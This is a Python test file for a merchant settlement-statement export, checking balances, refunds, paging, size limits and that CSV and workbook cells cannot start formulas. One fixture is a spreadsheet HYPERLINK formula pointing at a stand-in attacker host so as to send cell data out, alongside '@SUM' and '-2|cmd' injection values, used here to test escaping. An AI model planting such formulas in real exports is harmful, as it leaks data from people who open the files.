"""The statement of a settlement says what it nets, to the credit, and starts no formula (Article 20)."""

import csv
import io
from datetime import date, timedelta
from typing import Any
from uuid import UUID

import pytest
from sqlalchemy.orm import Session

from carbonhui import merchants
from carbonhui.core.database import Database, connection_of
from carbonhui.ledger import Kind, Purpose
from tests.export.sheets import formulas_in, sheets_of
from tests.ledger.books import DAY, code_of, fresh, organisation, promise
from tests.merchants.settling import TOMORROW, bakery_of, buy, give_back, moved, settled, through

#: What spreadsheets have run as formulas.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def charged(
    session: Session, shopper: int, bakery: int, credits: int, *, out_trade_no: str | None = None, shop: int | None = None,
    till: int | None = None, on: date = DAY, money_fen: int = 0,
) -> int:  # fmt: skip
    """A charge that was captured; its number."""
    row = connection_of(session).execute(
        """INSERT INTO charge (organisation, merchant, shop, till, credits, money_fen, payer, captured, transfer_id, authorised_at,
                               captured_at, business_date, asset, captures, state, out_trade_no)
           VALUES (1, %s, %s, %s, %s, %s, %s, %s, %s, now(), now(), %s, 1, true, 'captured', %s) RETURNING id""",
        (
            bakery, shop, till, credits, money_fen, shopper, credits, buy(session, shopper, bakery, credits, on=on), on,
            out_trade_no or fresh("T"),
        ),
    ).fetchone()
    assert row is not None
    return int(row[0])


def refunded(session: Session, charge: int, bakery: int, shopper: int, credits: int, *, on: date = DAY) -> None:
    connection = connection_of(session)
    connection.execute(
        """INSERT INTO charge_refund (charge_id, organisation, credits, transfer_id, business_date, asset, after_settlement, out_refund_no)
           VALUES (%s, 1, %s, %s, %s, 1, false, %s)""",
        (charge, credits, give_back(session, bakery, shopper, credits, on=on), on, fresh("R")),
    )
    connection.execute("UPDATE charge SET refunded = refunded + %s WHERE id = %s", (credits, charge))


def shop_and_till(database: Database, name: str, label: str) -> tuple[int, int]:
    with database.connect_as_owner() as owner:
        # The merchant behind it is another test's matter.
        owner.execute("SET session_replication_role = replica")
        shop = owner.execute(
            """INSERT INTO shop (organisation_id, name, address, district, latitude_udeg, longitude_udeg, hours, opened_on)
               VALUES (1, %s, '文明路 1 号', '440104', 23100000, 113300000, '', %s) RETURNING id""",
            (name, DAY),
        ).fetchone()
        assert shop is not None
        till = owner.execute("INSERT INTO till (shop_id, label) VALUES (%s, %s) RETURNING id", (shop[0], label)).fetchone()
        assert till is not None
        return shop[0], till[0]


def lines(database: Database, *made: merchants.Settlement) -> list[dict[str, Any]]:
    """The rows of the CSV, without the handles and instants."""
    text = as_csv(database, *made).decode("utf-8-sig")
    rows = csv.DictReader(io.StringIO(text, newline=""))
    return [{name: row[name] for name in ("kind", "credits", "balance", "out_trade_no", "money_fen", "refunded")} for row in rows]


def as_csv(database: Database, *made: merchants.Settlement) -> bytes:
    with database.begin() as session:
        merchants.write_csv(session, made, to := io.BytesIO())
    return to.getvalue()


def test_a_statement_lists_charges_refunds_and_gifts_between_what_was_brought_and_what_was_settled(town: Database) -> None:
    with town.begin() as session:
        bakery, shopper = bakery_of(session)
        tea = charged(session, shopper, bakery, 30, out_trade_no="A-1", money_fen=1200)
        refunded(session, tea, bakery, shopper, 10)
        moved(session, Purpose.DONATE, bakery, organisation(session, Kind.CHARITY), 4)
        buy(session, shopper, bakery, 5)
    assert lines(town, settled(town, bakery)) == [
        {"kind": "brought", "credits": "0", "balance": "0", "out_trade_no": "", "money_fen": "", "refunded": ""},
        {"kind": "charge", "credits": "30", "balance": "30", "out_trade_no": "A-1", "money_fen": "1200", "refunded": "10"},
        {"kind": "refund", "credits": "-10", "balance": "20", "out_trade_no": "A-1", "money_fen": "", "refunded": ""},
        {"kind": "donate", "credits": "-4", "balance": "16", "out_trade_no": "", "money_fen": "", "refunded": ""},
        {"kind": "redeem", "credits": "5", "balance": "21", "out_trade_no": "", "money_fen": "", "refunded": ""},
        {"kind": "settled", "credits": "-21", "balance": "0", "out_trade_no": "", "money_fen": "", "refunded": ""},
    ]


def test_a_statement_never_changes_although_more_goes_back_later(town: Database) -> None:
    with town.begin() as session:
        bakery, shopper = bakery_of(session)
        tea = charged(session, shopper, bakery, 30)
        refunded(session, tea, bakery, shopper, 10)
    first = settled(town, bakery)
    before = as_csv(town, first)
    with town.begin() as session:
        charged(session, shopper, bakery, 8)
        refunded(session, tea, bakery, shopper, 7)
    second = settled(town, bakery)
    assert as_csv(town, first) == before
    assert [line["kind"] for line in lines(town, second)] == ["brought", "charge", "refund", "settled"]


def test_the_column_of_credits_comes_to_what_is_carried(town: Database) -> None:
    with town.begin() as session:
        bakery, shopper = bakery_of(session, 30, 4)
        promise(session, bakery, shopper, 6)
    first = settled(town, bakery)
    with town.begin() as session:
        buy(session, shopper, bakery, 3)
        give_back(session, bakery, shopper, 1)
    second = settled(town, bakery, TOMORROW)
    for made in (first, second):
        rows = lines(town, made)
        assert sum(int(row["credits"]) for row in rows) == int(rows[-1]["balance"]) == made.carried == 6
    both = lines(town, first, second)
    assert [row["kind"] for row in both].count("settled") == 2


def test_lines_come_page_by_page(town: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    with town.begin() as session:
        bakery, _ = bakery_of(session, *[1] * 7)
    made = settled(town, bakery)
    with town.begin() as session:
        first = merchants.settlement_lines(session, made, limit=5)
        rest = merchants.settlement_lines(session, made, after=first[-1].transfer, limit=5)
    assert [len(first), len(rest)] == [5, 2]
    assert sum(line.credits for line in first + rest) == made.credits
    whole = as_csv(town, made)
    monkeypatch.setattr("carbonhui.merchants.statements._PAGE", 2)
    assert as_csv(town, made) == whole


def test_one_merchants_statement_says_nothing_of_anothers_sales(town: Database) -> None:
    with town.begin() as session:
        bakery, shopper = bakery_of(session)
        mill = organisation(session, Kind.MERCHANT)
        charged(session, shopper, bakery, 30)
        charged(session, bakery, mill, 20, out_trade_no="FLOUR", money_fen=900)
    assert [(line["kind"], line["out_trade_no"]) for line in lines(town, settled(town, bakery))][2] == ("redeem", "")
    assert [(line["kind"], line["out_trade_no"]) for line in lines(town, settled(town, mill))][1] == ("charge", "FLOUR")


def test_no_text_of_a_merchant_begins_a_formula_in_csv_or_workbook(town: Database) -> None:
    shop, till = shop_and_till(town, FORMULA, "@SUM(1+1)")
    with town.begin() as session:
        bakery, shopper = bakery_of(session)
        charged(session, shopper, bakery, 30, out_trade_no="-2|cmd", shop=shop, till=till)
    made = settled(town, bakery)
    text = as_csv(town, made).decode("utf-8-sig")
    row = list(csv.DictReader(io.StringIO(text, newline="")))[1]
    assert (row["shop"], row["till"], row["out_trade_no"]) == (f"'{FORMULA}", "'@SUM(1+1)", "'-2|cmd")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [cell for cell in cells if cell[:1] in "=+@-\t\r" and cell and not cell[1:].isdigit()] == []
    with town.begin() as session:
        merchants.write_xlsx(session, [made], to := io.BytesIO())
    row = sheets_of(to.getvalue())["lines"][2]
    assert {FORMULA, "@SUM(1+1)", "-2|cmd"} <= set(row)
    assert formulas_in(to.getvalue()) == 0


def test_a_workbook_has_the_totals_and_the_lines(town: Database) -> None:
    with town.begin() as session:
        bakery, shopper = bakery_of(session, 30)
        give_back(session, bakery, shopper, 5)
    made = settled(town, bakery)
    with town.begin() as session:
        merchants.write_xlsx(session, [made], to := io.BytesIO())
    sheets = sheets_of(to.getvalue())
    assert sheets["settlements"][1] == [DAY.isoformat(), str(made.handle), "0", "30", "5", "25", "0", "2", "no"]
    assert sum(int(row[5]) for row in sheets["lines"][1:]) == 0


def test_the_settlements_of_some_days_follow_one_another(town: Database) -> None:
    with town.begin() as session:
        bakery, shopper = bakery_of(session, 30)
    first = settled(town, bakery)
    with town.begin() as session:
        buy(session, shopper, bakery, 3)
    second = settled(town, bakery, TOMORROW)

    def between(first: date, last: date) -> list[UUID]:
        with town.begin() as session:
            return [one.handle for one in merchants.settlements_between(session, bakery, first=first, last=last)]

    assert between(DAY, TOMORROW) == [first.handle, second.handle]
    assert between(TOMORROW, TOMORROW) == [second.handle]
    assert between(DAY - timedelta(days=9), DAY - timedelta(days=1)) == []
    with town.begin() as session:
        assert [one.number for one in merchants.settlements_of(session, bakery)] == [2, 1]
        assert [one.number for one in merchants.settlements_of(session, bakery, before=2)] == [1]


@pytest.mark.parametrize(("first", "last"), [
    (date(2026, 1, 2), date(2026, 1, 1)), (date(2026, 1, 1), date(2027, 1, 2)), (date(2017, 12, 31), date(2018, 1, 1)),
    (date(2099, 12, 31), date(2100, 1, 1)),
])  # fmt: skip
def test_a_statement_is_of_at_most_a_year(town: Database, first: date, last: date) -> None:
    asked = {"first": first, "last": last}
    assert code_of(town, lambda session: merchants.settlements_between(session, 1, **asked)) == "settlement_days_invalid"
    year = {"first": date(2026, 1, 1), "last": date(2027, 1, 1)}
    assert code_of(town, lambda session: merchants.settlements_between(session, 1, **year)) == "done"


def test_a_statement_that_is_too_large_is_refused(town: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    with town.begin() as session:
        bakery, _ = bakery_of(session, *[1] * 9)
    made = settled(town, bakery)
    for write in (merchants.write_csv, merchants.write_xlsx):
        refused = code_of(town, lambda session, write=write: write(session, [made], io.BytesIO(), bytes_max=1000))
        assert refused == "settlement_statement_too_large"
        assert code_of(town, lambda session, write=write: write(session, [made], io.BytesIO(), bytes_max=100_000)) == "done"
    monkeypatch.setattr("carbonhui.merchants.statements.ROWS_MAX", 11)
    refused = code_of(town, lambda session: merchants.write_xlsx(session, [made], io.BytesIO()))
    assert refused == "settlement_statement_too_large"


def test_a_statement_is_not_told_whose_lines_do_not_come_to_it(town: Database) -> None:
    with town.begin() as session:
        bakery, _ = bakery_of(session, 30)
        made = through(session, bakery)
        assert made is not None
        twisted = type(made)(**{**vars(made), "carried": 1})
        with pytest.raises(AssertionError, match="its lines come to 0"):
            merchants.write_csv(session, [twisted], io.BytesIO())
